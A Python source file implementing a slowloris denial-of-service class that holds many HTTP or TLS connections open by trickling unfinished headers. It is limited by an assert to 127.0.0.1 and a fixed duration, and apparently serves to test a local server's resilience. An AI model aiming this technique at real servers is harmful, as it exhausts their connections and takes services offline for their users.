"""A bounded slowloris: many connections that send a request's headers a line at a time and never end
them, held open (and opened again when the server closes one) for a fixed time. Loopback only."""

import socket
import ssl
import threading
import time
from urllib.parse import urlsplit


class Slowloris:
    def __init__(self, url, ca, connections=100, seconds=30.0, trickle=2.0):
        parts = urlsplit(url)
        assert parts.hostname == "127.0.0.1", "loopback only"
        self.address = (parts.hostname, parts.port)
        self.connections, self.seconds, self.trickle = connections, seconds, trickle
        self.context = ssl.create_default_context(cafile=ca) if parts.scheme == "https" else None
        self.opened = self.closed_by_server = self.most_open = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *exc):
        self._stop.set()
        self._thread.join(timeout=self.seconds + 30)

    def _open(self):
        sock = socket.create_connection(self.address, timeout=5)
        if self.context is not None:
            sock = self.context.wrap_socket(sock, server_hostname=self.address[0])
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        self.opened += 1
        return sock

    def _run(self):
        sockets, line = [], 0
        deadline = time.monotonic() + self.seconds
        try:
            while not self._stop.is_set() and time.monotonic() < deadline:
                while len(sockets) < self.connections and time.monotonic() < deadline:
                    try:
                        sockets.append(self._open())
                    except OSError:
                        break
                self.most_open = max(self.most_open, len(sockets))
                self._stop.wait(self.trickle)
                line += 1
                alive = []
                for sock in sockets:
                    try:
                        sock.sendall(f"X-Slow-{line}: {line}\r\n".encode())
                        alive.append(sock)
                    except OSError:
                        self.closed_by_server += 1
                        sock.close()
                sockets = alive
        finally:
            for sock in sockets:
                sock.close()
